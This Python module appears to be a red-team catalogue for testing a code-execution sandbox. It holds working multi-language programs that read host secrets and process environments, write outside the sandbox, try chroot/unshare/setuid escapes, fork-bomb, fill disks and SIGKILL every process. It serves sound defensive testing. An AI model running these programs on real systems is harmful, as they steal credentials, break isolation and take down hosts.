"""The attack catalogue of `/run_code`: hostile programs, each in several
languages, that try to reach past their sandbox. tests/fusion/
test_attacks.py plays every one through SandboxFusion's real client and
checks the answer it got and that nothing outside the sandbox changed.

A program names what it aims at with placeholders the player fills in
(`program(kind, language, **values)`): `@MARK@` a unique name for files
it tries to leave on the host, `@SECRET@` the path of a secret file on the
host, `@PORT@` and `@LISTEN@` loopback ports on the host (the server's and
a listener that must never see a connection), `@PID@` a host process that
must survive. A sandbox sees none of these: its root is the image's, its
network its own loopback, its pids its own.
"""

from __future__ import annotations

import re
from dataclasses import dataclass

from sandgym.specs.redteam import Attack

FAMILY = "run_code"

# Where a program that escaped would leave a file on the host.
HOST_WRITES = (
    "/tmp/@MARK@",
    "/var/tmp/@MARK@",
    "/dev/shm/@MARK@",
    "/root/@MARK@",
    "/@MARK@",
    "/proc/1/root/tmp/@MARK@-root",
    "/proc/self/cwd/../../../../tmp/@MARK@-dots",
)
# Where it would read the host's secret.
HOST_READS = ("@SECRET@", "/proc/1/root@SECRET@", "/proc/self/root@SECRET@", "/proc/1/cwd/../../..@SECRET@")


def _quoted(paths: tuple[str, ...]) -> str:
    return ", ".join(f'"{p}"' for p in paths)


def _words(paths: tuple[str, ...]) -> str:
    return " ".join(f"'{p}'" for p in paths)


@dataclass(frozen=True, kw_only=True)
class RunCodeAttack(Attack):
    """`programs`: language -> source with placeholders; `follow_up`: a
    Python program run in a fresh sandbox after each one (what a later
    request would find); `fetch_files`: what the request asks back."""

    programs: dict[str, str]
    follow_up: str | None = None
    fetch_files: tuple[str, ...] = ()
    memory_limit_mb: int | None = None
    run_timeout: float = 20.0

    def program(self, language: str, **values: str | int) -> str:
        code = self.programs[language]
        for name, value in values.items():
            code = code.replace(f"@{name.upper()}@", str(value))
        left = re.findall(r"@[A-Z]+@", code)
        if left:
            raise ValueError(f"attack {self.kind} ({language}): no value given for {', '.join(sorted(set(left)))}")
        return code


HOST_WRITE = {
    "python": (
        f"for p in [{_quoted(HOST_WRITES)}]:\n"
        "    try:\n"
        "        with open(p, 'w') as f:\n"
        "            f.write('x')\n"
        "        print('wrote', p)\n"
        "    except OSError as e:\n"
        "        print('refused', p, e.errno)\n"
    ),
    "bash": (
        f"for p in {_words(HOST_WRITES)}; do\n"
        '  if (echo x > "$p") 2>/dev/null; then echo "wrote $p"; else echo "refused $p"; fi\n'
        "done\n"
    ),
    "cpp": (
        "#include <cstdio>\nint main() {\n"
        f"  const char* paths[] = {{{_quoted(HOST_WRITES)}}};\n"
        "  for (const char* p : paths) {\n"
        '    if (FILE* f = std::fopen(p, "w")) { std::fputs("x", f); std::fclose(f); std::printf("wrote %s\\n", p); }\n'
        '    else std::printf("refused %s\\n", p);\n'
        "  }\n}\n"
    ),
    "nodejs": (
        "const fs = require('fs');\n"
        f"for (const p of [{_quoted(HOST_WRITES)}]) {{\n"
        "  try { fs.writeFileSync(p, 'x'); console.log('wrote', p); } catch (e) { "
        "console.log('refused', p, e.code); }\n"
        "}\n"
    ),
    "go": (
        'package main\n\nimport (\n\t"fmt"\n\t"os"\n)\n\nfunc main() {\n'
        f"\tfor _, p := range []string{{{_quoted(HOST_WRITES)}}} {{\n"
        '\t\tif err := os.WriteFile(p, []byte("x"), 0o644); err != nil {\n'
        '\t\t\tfmt.Println("refused", p)\n\t\t} else {\n\t\t\tfmt.Println("wrote", p)\n\t\t}\n\t}\n}\n'
    ),
    "ruby": (
        f"[{_quoted(HOST_WRITES)}].each do |p|\n"
        "  begin\n    File.write(p, 'x')\n    puts \"wrote #{p}\"\n"
        '  rescue SystemCallError => e\n    puts "refused #{p}"\n  end\nend\n'
    ),
    "perl": (
        f"for my $p ({_quoted(HOST_WRITES)}) {{\n"
        '  if (open(my $f, ">", $p)) { print $f "x"; close $f; print "wrote $p\\n"; }\n'
        '  else { print "refused $p\\n"; }\n}\n'
    ),
}

# The secret file by every route, then every process's environment and
# command line (the server's own environment holds the secret too).
HOST_READ = {
    "python": (
        "import os\n"
        "def show(p):\n"
        "    try:\n"
        "        with open(p, 'rb') as f:\n"
        "            print(p, f.read(1 << 16))\n"
        "    except OSError as e:\n"
        "        print('refused', p, e.errno)\n"
        f"for p in [{_quoted(HOST_READS)}]:\n"
        "    show(p)\n"
        "for pid in os.listdir('/proc'):\n"
        "    if pid.isdigit():\n"
        "        for part in ('environ', 'cmdline'):\n"
        "            show(f'/proc/{pid}/{part}')\n"
        "for root, dirs, files in os.walk('/', onerror=lambda e: None):\n"
        "    if root.startswith(('/proc', '/sys', '/usr')):\n"
        "        dirs[:] = []\n"
        "    for name in files:\n"
        "        if 'secret' in name:\n"
        "            show(os.path.join(root, name))\n"
    ),
    "bash": (
        f'for p in {_words(HOST_READS)}; do cat "$p"; done\n'
        "cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline | tr '\\0' '\\n'\n"
        "find / -path /proc -prune -o -path /sys -prune -o -name '*secret*' -type f -print -exec cat {} + 2>/dev/null\n"
        "exit 0\n"
    ),
    "cpp": (
        "#include <dirent.h>\n#include <cctype>\n#include <cstdio>\n#include <string>\n"
        "static void show(const std::string& p) {\n"
        '  FILE* f = std::fopen(p.c_str(), "rb");\n'
        '  if (!f) { std::printf("refused %s\\n", p.c_str()); return; }\n'
        "  char buf[65536];\n  size_t n = std::fread(buf, 1, sizeof buf, f);\n  std::fclose(f);\n"
        '  std::printf("%s ", p.c_str());\n'
        "  for (size_t i = 0; i < n; ++i) std::putchar(buf[i] ? buf[i] : '\\n');\n"
        "  std::putchar('\\n');\n}\n"
        "int main() {\n"
        f"  for (const char* p : {{{_quoted(HOST_READS)}}}) show(p);\n"
        '  if (DIR* d = opendir("/proc")) {\n'
        "    while (dirent* e = readdir(d)) {\n"
        "      if (!std::isdigit(static_cast<unsigned char>(e->d_name[0]))) continue;\n"
        '      show(std::string("/proc/") + e->d_name + "/environ");\n'
        '      show(std::string("/proc/") + e->d_name + "/cmdline");\n'
        "    }\n    closedir(d);\n  }\n}\n"
    ),
    "nodejs": (
        "const fs = require('fs');\n"
        "const show = (p) => {\n"
        "  try { console.log(p, fs.readFileSync(p).toString('latin1').replace(/\\0/g, '\\n')); }\n"
        "  catch (e) { console.log('refused', p, e.code); }\n};\n"
        f"for (const p of [{_quoted(HOST_READS)}]) show(p);\n"
        "for (const pid of fs.readdirSync('/proc')) {\n"
        "  if (/^\\d+$/.test(pid)) { show(`/proc/${pid}/environ`); show(`/proc/${pid}/cmdline`); }\n"
        "}\n"
    ),
    "go": (
        'package main\n\nimport (\n\t"fmt"\n\t"os"\n\t"path/filepath"\n)\n\nfunc main() {\n'
        f"\tpaths := []string{{{_quoted(HOST_READS)}}}\n"
        '\tmore, _ := filepath.Glob("/proc/[0-9]*/environ")\n'
        "\tfor _, p := range append(paths, more...) {\n"
        "\t\tif b, err := os.ReadFile(p); err == nil {\n"
        '\t\t\tfmt.Printf("%s %q\\n", p, b)\n\t\t} else {\n\t\t\tfmt.Println("refused", p)\n\t\t}\n\t}\n}\n'
    ),
}

# Connections to the host's loopback: the server and a listener.
NETWORK = {
    "python": (
        "import socket\n"
        "for port in (@PORT@, @LISTEN@):\n"
        "    try:\n"
        "        socket.create_connection(('127.0.0.1', port), timeout=3).close()\n"
        "        print('REACHED', port)\n"
        "    except OSError as e:\n"
        "        print('no route', port, e.errno)\n"
        "try:\n"
        "    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        "    u.sendto(b'x', ('127.0.0.1', @LISTEN@))\n"
        "except OSError as e:\n"
        "    print('no udp', e.errno)\n"
    ),
    "bash": (
        "for port in @PORT@ @LISTEN@; do\n"
        '  if (exec 3<>"/dev/tcp/127.0.0.1/$port") 2>/dev/null; then echo "REACHED '
        '$port"; else echo "no route $port"; fi\n'
        "done\n"
    ),
    "cpp": (
        "#include <arpa/inet.h>\n#include <cstdio>\n#include <initializer_list>\n#include <netinet/in.h>\n#include "
        "<sys/socket.h>\n#include <unistd.h>\n"
        "int main() {\n"
        "  for (int port : {@PORT@, @LISTEN@}) {\n"
        "    int s = socket(AF_INET, SOCK_STREAM, 0);\n"
        "    sockaddr_in a{};\n    a.sin_family = AF_INET;\n    a.sin_port = htons(port);\n"
        '    inet_pton(AF_INET, "127.0.0.1", &a.sin_addr);\n'
        '    if (connect(s, reinterpret_cast<sockaddr*>(&a), sizeof a) == 0) std::printf("REACHED %d\\n", port);\n'
        '    else std::printf("no route %d\\n", port);\n'
        "    close(s);\n  }\n}\n"
    ),
    "nodejs": (
        "const net = require('net');\n"
        "const tryPort = (port) => new Promise((done) => {\n"
        "  const s = net.connect(port, '127.0.0.1');\n"
        "  s.on('connect', () => { console.log('REACHED', port); s.destroy(); done(); });\n"
        "  s.on('error', (e) => { console.log('no route', port, e.code); done(); });\n"
        "});\n"
        "(async () => { await tryPort(@PORT@); await tryPort(@LISTEN@); })();\n"
    ),
    "go": (
        'package main\n\nimport (\n\t"fmt"\n\t"net"\n\t"time"\n)\n\nfunc main() {\n'
        '\tfor _, addr := range []string{"127.0.0.1:@PORT@", "127.0.0.1:@LISTEN@"} {\n'
        '\t\tif c, err := net.DialTimeout("tcp", addr, 3*time.Second); err == nil {\n'
        '\t\t\tfmt.Println("REACHED", addr)\n\t\t\tc.Close()\n\t\t} else '
        '{\n\t\t\tfmt.Println("no route", addr)\n\t\t}\n'
        "\t}\n}\n"
    ),
    "java": (
        "import java.net.Socket;\n\npublic class Main {\n  public static void main(String[] args) {\n"
        "    for (int port : new int[] {@PORT@, @LISTEN@}) {\n"
        '      try (Socket s = new Socket("127.0.0.1", port)) { System.out.println("REACHED " + port); }\n'
        '      catch (Exception e) { System.out.println("no route " + port); }\n'
        "    }\n  }\n}\n"
    ),
    "ruby": (
        "require 'socket'\n[@PORT@, @LISTEN@].each do |port|\n"
        "  begin\n    TCPSocket.new('127.0.0.1', port).close\n    puts \"REACHED #{port}\"\n"
        '  rescue SystemCallError\n    puts "no route #{port}"\n  end\nend\n'
    ),
    "perl": (
        "use IO::Socket::INET;\nfor my $port (@PORT@, @LISTEN@) {\n"
        "  my $s = IO::Socket::INET->new(PeerAddr => '127.0.0.1', PeerPort => $port, Timeout => 3);\n"
        '  print $s ? "REACHED $port\\n" : "no route $port\\n";\n}\n'
    ),
    "php": (
        "<?php\nforeach ([@PORT@, @LISTEN@] as $port) {\n"
        '  $s = @fsockopen("127.0.0.1", $port, $errno, $errstr, 3);\n'
        '  echo $s ? "REACHED $port\\n" : "no route $port\\n";\n}\n'
    ),
}

FORK_BOMB = {
    "python": "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass\n",
    "bash": "bomb() { bomb | bomb & }\nbomb\nsleep 30\n",
    "cpp": "#include <unistd.h>\nint main() {\n  for (;;) fork();\n}\n",
    "nodejs": (
        "const { spawn } = require('child_process');\n"
        "for (;;) {\n"
        "  try { spawn(process.execPath, [__filename], { detached: true, stdio: 'ignore' }).on('error', () => {}); }\n"
        "  catch (e) {}\n}\n"
    ),
}

MEMORY_BOMB = {
    "python": "blocks = []\nwhile True:\n    blocks.append(bytearray(64 << 20))\n",
    "bash": "x=aaaaaaaaaaaaaaaa\nwhile :; do x=$x$x; done\n",
    "cpp": (
        "#include <cstring>\n#include <vector>\nint main() {\n  std::vector<char*> blocks;\n"
        "  for (;;) {\n    char* p = new char[64 << 20];\n    std::memset(p, 1, 64 << 20);\n"
        "    blocks.push_back(p);\n  }\n}\n"
    ),
    "nodejs": "const blocks = [];\nfor (;;) blocks.push(Buffer.alloc(64 << 20, 1));\n",
}

# Each location written until refused (or 700 MB: past every bound, so a
# missing bound shows without filling the machine), in 16 MB files (a file
# is bounded on its own: file_size_mb); the MB it took printed.
FILL_MB = 700
DISK_FILL = {
    "python": (
        "chunk = b'0' * (1 << 20)\n"
        "for where in ('.', '/tmp', '/dev/shm'):\n"
        "    n = 0\n"
        "    try:\n"
        f"        while n < {FILL_MB}:\n"
        "            with open(f'{where}/fill{n}', 'wb') as f:\n"
        "                for _ in range(16):\n"
        "                    f.write(chunk)\n"
        "                    f.flush()\n"
        "                    n += 1\n"
        "    except OSError:\n"
        "        pass\n"
        "    print('filled', where, n)\n"
    ),
    "bash": (
        "for where in . /tmp /dev/shm; do\n"
        f'  for i in $(seq 0 16 {FILL_MB - 1}); do head -c 16M /dev/zero > "$where/fill$i" 2>/dev/null || break; done\n'
        '  echo "filled $where $(( $(cat "$where"/fill* 2>/dev/null | wc -c) >> 20 ))"\n'
        "done\n"
    ),
    "cpp": (
        "#include <cstdio>\n#include <string>\n#include <vector>\nint main() {\n  "
        "std::vector<char> chunk(1 << 20, '0');\n"
        '  for (std::string where : {".", "/tmp", "/dev/shm"}) {\n'
        "    int n = 0;\n    bool full = false;\n"
        f"    while (!full && n < {FILL_MB}) {{\n"
        '      FILE* f = std::fopen((where + "/fill" + std::to_string(n)).c_str(), "wb");\n'
        "      if (!f) break;\n"
        "      for (int i = 0; i < 16 && !full; ++i) {\n"
        "        if (std::fwrite(chunk.data(), 1, chunk.size(), f) == chunk.size() && std::fflush(f) == 0) ++n;\n"
        "        else full = true;\n      }\n"
        "      std::fclose(f);\n    }\n"
        '    std::printf("filled %s %d\\n", where.c_str(), n);\n  }\n}\n'
    ),
    "nodejs": (
        "const fs = require('fs');\nconst chunk = Buffer.alloc(1 << 20, 48);\n"
        "for (const where of ['.', '/tmp', '/dev/shm']) {\n"
        "  let n = 0;\n"
        "  try {\n"
        f"    while (n < {FILL_MB}) {{\n"
        "      const fd = fs.openSync(`${where}/fill${n}`, 'w');\n"
        "      try { for (let i = 0; i < 16; i++) { fs.writeSync(fd, chunk); n += 1; } } "
        "finally { fs.closeSync(fd); }\n"
        "    }\n"
        "  } catch (e) {}\n"
        "  console.log('filled', where, n);\n}\n"
    ),
}

FLOOD_MB = 64
OUTPUT_FLOOD = {
    "python": (
        "import sys\nchunk = 'x' * (1 << 20)\n"
        f"for _ in range({FLOOD_MB}):\n    sys.stdout.write(chunk)\n    sys.stderr.write(chunk)\n"
    ),
    "bash": f"yes xxxxxxx | head -c {FLOOD_MB}M\nyes yyyyyyy | head -c {FLOOD_MB}M >&2\n",
    "cpp": (
        "#include <cstdio>\n#include <string>\nint main() {\n  std::string chunk(1 << 20, 'x');\n"
        f"  for (int i = 0; i < {FLOOD_MB}; ++i) {{\n"
        "    std::fwrite(chunk.data(), 1, chunk.size(), stdout);\n"
        "    std::fwrite(chunk.data(), 1, chunk.size(), stderr);\n  }\n}\n"
    ),
    "nodejs": (
        "const chunk = 'x'.repeat(1 << 20);\n"
        f"for (let i = 0; i < {FLOOD_MB}; i++) {{ process.stdout.write(chunk); process.stderr.write(chunk); }}\n"
    ),
}

# SIGKILL to a host process by its host pid, to every pid, to everyone
# (-1) and to the parent: other sandboxes and the host must not notice.
SIGNALS = {
    "python": (
        "import os, signal\n"
        "for pid in [@PID@, *range(2, 4096)]:\n"
        "    if pid != os.getpid():\n"
        "        try:\n"
        "            os.kill(pid, signal.SIGKILL)\n"
        "        except OSError:\n"
        "            pass\n"
        "os.kill(-1, signal.SIGKILL)\n"
    ),
    "bash": (
        "kill -9 @PID@\nfor pid in $(seq 2 4096); do [ $pid != $$ ] && kill -9 $pid; done 2>/dev/null\nkill -9 -1\n"
    ),
    "cpp": (
        "#include <csignal>\n#include <unistd.h>\nint main() {\n  kill(@PID@, SIGKILL);\n"
        "  for (pid_t p = 2; p < 4096; ++p) if (p != getpid()) kill(p, SIGKILL);\n"
        "  kill(getppid(), SIGKILL);\n  kill(-1, SIGKILL);\n}\n"
    ),
    "nodejs": (
        "for (const pid of [@PID@, ...Array.from({ length: 4094 }, (_, i) => i + 2)]) {\n"
        "  if (pid !== process.pid) { try { process.kill(pid, 'SIGKILL'); } catch (e) {} }\n"
        "}\ntry { process.kill(-1, 'SIGKILL'); } catch (e) {}\n"
    ),
}

# State left for the next request: files in the workspace, /tmp and
# /dev/shm, and a detached process named "planted-sleeper".
POOLED_STATE = {
    "python": (
        "import os\n"
        "for p in ('planted', '/tmp/planted', '/dev/shm/planted'):\n"
        "    open(p, 'w').write('x')\n"
        "if os.fork() == 0:\n"
        "    os.setsid()\n"
        "    if os.fork() == 0:\n"
        "        null = os.open('/dev/null', os.O_RDWR)\n"
        "        for fd in (0, 1, 2):\n"
        "            os.dup2(null, fd)\n"
        "        os.execv('/bin/sleep', ['planted-sleeper', '60'])\n"
        "    os._exit(0)\n"
        "print('planted')\n"
    ),
    "bash": (
        "for p in planted /tmp/planted /dev/shm/planted; do echo x > $p; done\n"
        "(setsid bash -c 'exec -a planted-sleeper sleep 60' </dev/null >/dev/null 2>&1 &)\n"
        "echo planted\n"
    ),
    "cpp": (
        "#include <cstdio>\n#include <initializer_list>\n#include <unistd.h>\nint main() {\n"
        '  for (const char* p : {"planted", "/tmp/planted", "/dev/shm/planted"})\n'
        '    if (FILE* f = std::fopen(p, "w")) std::fclose(f);\n'
        "  if (fork() == 0) {\n    setsid();\n"
        "    if (fork() == 0) {\n"
        '      std::freopen("/dev/null", "r", stdin);\n'
        '      std::freopen("/dev/null", "w", stdout);\n'
        '      std::freopen("/dev/null", "w", stderr);\n'
        '      execl("/bin/sleep", "planted-sleeper", "60", (char*)nullptr);\n'
        "    }\n"
        "    _exit(0);\n  }\n"
        '  std::puts("planted");\n}\n'
    ),
    "nodejs": (
        "const fs = require('fs');\nconst { spawn } = require('child_process');\n"
        "for (const p of ['planted', '/tmp/planted', '/dev/shm/planted']) fs.writeFileSync(p, 'x');\n"
        "spawn('/bin/sleep', ['60'], { detached: true, stdio: 'ignore', argv0: 'planted-sleeper' }).unref();\n"
        "console.log('planted');\n"
    ),
}
# What the next request finds: FOUND lines if anything was left.
POOLED_STATE_CHECK = (
    "import os\n"
    "for p in ('planted', '/tmp/planted', '/dev/shm/planted'):\n"
    "    if os.path.exists(p):\n"
    "        print('FOUND', p)\n"
    "for pid in os.listdir('/proc'):\n"
    "    try:\n"
    "        if pid.isdigit() and b'planted' in open(f'/proc/{pid}/cmdline', 'rb').read():\n"
    "            print('FOUND process', pid)\n"
    "    except OSError:\n"
    "        pass\n"
    "print('checked')\n"
)

# Privilege and namespace moves (setuid 0, mount, chroot, hostname, a
# nested user namespace), then a write through whatever they gave.
ESCAPE = {
    "python": (
        "import ctypes, os\n"
        "libc = ctypes.CDLL(None, use_errno=True)\n"
        "def attempt(name, fn):\n"
        "    try:\n"
        "        print(name, 'returned', fn(), 'errno', ctypes.get_errno())\n"
        "    except Exception as e:\n"
        "        print(name, 'refused', e)\n"
        "attempt('setuid', lambda: os.setuid(0))\n"
        "attempt('mount', lambda: libc.mount(b'tmpfs', b'/mnt', b'tmpfs', 0, None))\n"
        "attempt('sethostname', lambda: libc.sethostname(b'pwned', 5))\n"
        "attempt('proc-hostname', lambda: open('/proc/sys/kernel/hostname', 'w').write('pwned'))\n"
        "attempt('unshare-user', lambda: libc.unshare(0x10000000))\n"
        "attempt('chroot', lambda: os.chroot('/tmp'))\n"
        "attempt('chroot-out', lambda: [os.chdir('..') for _ in range(64)] and os.chroot('.'))\n"
        "attempt('write', lambda: open('/tmp/@MARK@-escape', 'w').write('x'))\n"
    ),
    "bash": (
        "hostname pwned\necho pwned > /proc/sys/kernel/hostname\n"
        "unshare -Urm sh -c 'mount -t tmpfs none /mnt && echo mounted; hostname pwned; echo x > /tmp/@MARK@-escape'\n"
        "mount -t proc proc /mnt\nchroot / true\n"
        "echo done\n"
    ),
    "cpp": (
        "#include <cstdio>\n#include <sched.h>\n#include <sys/mount.h>\n#include <unistd.h>\n"
        "int main() {\n"
        '  std::printf("setuid %d\\n", setuid(0));\n'
        '  std::printf("mount %d\\n", mount("tmpfs", "/mnt", "tmpfs", 0, nullptr));\n'
        '  std::printf("sethostname %d\\n", sethostname("pwned", 5));\n'
        '  std::printf("unshare %d\\n", unshare(CLONE_NEWUSER | CLONE_NEWNS));\n'
        '  std::printf("chroot %d\\n", chroot("/tmp"));\n'
        '  for (int i = 0; i < 64; ++i) if (chdir("..") != 0) break;\n'
        '  std::printf("chroot-out %d\\n", chroot("."));\n'
        '  if (FILE* f = std::fopen("/tmp/@MARK@-escape", "w")) { std::fputs("x", f); std::fclose(f); }\n'
        "}\n"
    ),
    "nodejs": (
        "const fs = require('fs');\nconst { spawnSync } = require('child_process');\n"
        "try { process.setuid(0); console.log('setuid ok'); } catch (e) { console.log('setuid refused', e.code); }\n"
        "try { fs.writeFileSync('/proc/sys/kernel/hostname', 'pwned'); } catch (e) { "
        "console.log('hostname', e.code); }\n"
        "const r = spawnSync('unshare', ['-Ur', 'sh', '-c', 'hostname pwned; echo x > /tmp/@MARK@-escape'], "
        "{ encoding: 'utf8' });\n"
        "console.log('unshare', r.status, r.stderr);\n"
    ),
}

# Symlinks to the host's secret and to other processes' environment,
# asked back as files.
FETCH_LINKS = ("leak-secret", "leak-root", "leak-environ", "leak-dir/secret")
_LINK_TARGETS = ("@SECRET@", "/proc/1/root@SECRET@", "/proc/1/environ", "@SECRET@")
FETCH_SYMLINK = {
    "python": (
        "import os\nos.mkdir('leak-dir')\n"
        + "".join(f"os.symlink({t!r}, {n!r})\n" for n, t in zip(FETCH_LINKS, _LINK_TARGETS, strict=True))
    ),
    "bash": "mkdir leak-dir\n"
    + "".join(f"ln -s '{t}' '{n}'\n" for n, t in zip(FETCH_LINKS, _LINK_TARGETS, strict=True)),
    "cpp": (
        "#include <sys/stat.h>\n#include <unistd.h>\nint main() {\n"
        '  mkdir("leak-dir", 0755);\n'
        + "".join(f'  symlink("{t}", "{n}");\n' for n, t in zip(FETCH_LINKS, _LINK_TARGETS, strict=True))
        + "}\n"
    ),
    "nodejs": (
        "const fs = require('fs');\nfs.mkdirSync('leak-dir');\n"
        + "".join(f"fs.symlinkSync('{t}', '{n}');\n" for n, t in zip(FETCH_LINKS, _LINK_TARGETS, strict=True))
    ),
}

# The compiler made to read the host's secret into its output.
COMPILE_INCLUDE = {
    "cpp": '#include "@SECRET@"\n#include "/proc/1/root@SECRET@"\nint main() {}\n',
    "rust": 'const S: &str = include_str!("@SECRET@");\nfn main() {\n    println!("{}", S);\n}\n',
    "typescript": '/// <reference path="@SECRET@" />\nconsole.log(1);\n',
    "D_ut": 'enum s = import("@SECRET@");\nunittest {}\n',
}


def _a(name: str, category: str, summary: str, programs: dict[str, str], **kw) -> RunCodeAttack:
    return RunCodeAttack(
        kind=f"run_code.{name}", family=FAMILY, category=category, summary=summary, programs=programs, **kw
    )


ATTACKS: tuple[RunCodeAttack, ...] = (
    _a(
        "host-write",
        "writing outside the sandbox",
        "files written to the host's /tmp, /root, / by every path",
        HOST_WRITE,
    ),
    _a("host-read", "reading host secrets", "a host file, /proc/*/environ and a search for secrets", HOST_READ),
    _a("network", "network", "TCP and UDP to the server and a listener on the host's loopback", NETWORK),
    _a("fork-bomb", "exhaustion", "fork until refused", FORK_BOMB, run_timeout=5.0),
    _a("memory-bomb", "exhaustion", "allocate until refused", MEMORY_BOMB, memory_limit_mb=512, run_timeout=20.0),
    _a("disk-fill", "exhaustion", "the workspace, /tmp and /dev/shm written until full", DISK_FILL, run_timeout=60.0),
    _a("output-flood", "exhaustion", f"{FLOOD_MB} MiB on stdout and on stderr", OUTPUT_FLOOD, run_timeout=60.0),
    _a("signals", "signals", "SIGKILL to a host pid, every pid, -1 and the parent", SIGNALS, run_timeout=20.0),
    _a(
        "pooled-state",
        "state left behind",
        "files and a detached process left for the next request",
        POOLED_STATE,
        follow_up=POOLED_STATE_CHECK,
    ),
    _a("escape", "escape", "setuid 0, mount, chroot, hostname, a nested user namespace", ESCAPE),
    _a(
        "fetch-symlink",
        "reading host secrets",
        "fetch_files through symlinks to the host's secret",
        FETCH_SYMLINK,
        fetch_files=FETCH_LINKS,
    ),
    _a("compile-include", "reading host secrets", "the compiler made to include the host's secret", COMPILE_INCLUDE),
)
BY_KIND = {a.kind: a for a in ATTACKS}
